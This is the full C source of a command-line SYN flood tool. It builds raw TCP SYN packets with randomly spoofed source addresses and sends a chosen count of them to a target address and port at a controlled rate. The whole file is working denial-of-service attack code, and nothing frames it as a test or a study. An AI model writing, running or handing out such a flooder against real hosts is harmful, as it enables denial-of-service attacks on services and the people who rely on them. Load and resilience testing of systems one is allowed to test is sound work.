// SPDX-License-Identifier: MIT
/*
 * A SYN flood with invented senders, on the host:
 *
 *	syn_flood ADDRESS PORT COUNT RATE
 *
 * Sources are random in 198.18.0.0/15 (RFC 2544's, nobody's), so that answers go
 * nowhere. RATE segments a second, in batches of a millisecond.
 */
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

static uint16_t finish(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static uint32_t add(uint32_t sum, const void *data, size_t length)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < length; i += 2)
		sum += (uint32_t)(p[i] | p[i + 1] << 8);
	return sum;
}

struct syn {
	struct iphdr ip;
	struct tcphdr tcp;
	uint8_t options[4];
};

static void build(struct syn *s, uint32_t to, uint16_t port)
{
	uint32_t sum;

	memset(s, 0, sizeof(*s));
	s->ip.version = 4;
	s->ip.ihl = 5;
	s->ip.tot_len = htons(sizeof(*s));
	s->ip.ttl = 64;
	s->ip.protocol = IPPROTO_TCP;
	s->ip.saddr = htonl(0xc6120000u | ((uint32_t)random() & 0x1ffff));
	s->ip.daddr = to;
	s->tcp.source = htons(1024 + random() % 60000);
	s->tcp.dest = htons(port);
	s->tcp.seq = (uint32_t)random();
	s->tcp.doff = 6;
	s->tcp.syn = 1;
	s->tcp.window = htons(64240);
	memcpy(s->options, "\x02\x04\x05\xb4", 4);
	sum = add(0, &s->ip.saddr, 8);
	sum += htons(IPPROTO_TCP) + htons(sizeof(*s) - sizeof(s->ip));
	s->tcp.check = finish(add(sum, &s->tcp, sizeof(*s) - sizeof(s->ip)));
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	long count = atol(argv[3]), rate = atol(argv[4]), sent = 0, failed = 0;
	struct timespec start, now;

	if (fd < 0) {
		perror("raw socket");
		return 1;
	}
	inet_pton(AF_INET, argv[1], &to.sin_addr);
	clock_gettime(CLOCK_MONOTONIC, &start);
	while (sent < count) {
		struct syn s;
		double elapsed;

		clock_gettime(CLOCK_MONOTONIC, &now);
		elapsed = (double)(now.tv_sec - start.tv_sec) +
			  (double)(now.tv_nsec - start.tv_nsec) / 1e9;
		if ((double)sent > elapsed * (double)rate) {
			nanosleep(&(struct timespec){ 0, 500000 }, NULL);
			continue;
		}
		build(&s, to.sin_addr.s_addr, (uint16_t)atoi(argv[2]));
		if (sendto(fd, &s, sizeof(s), 0, (void *)&to, sizeof(to)) < 0)
			failed++;
		sent++;
	}
	printf("sent %ld, failed %ld\n", sent, failed);
	return failed > count / 100;
}
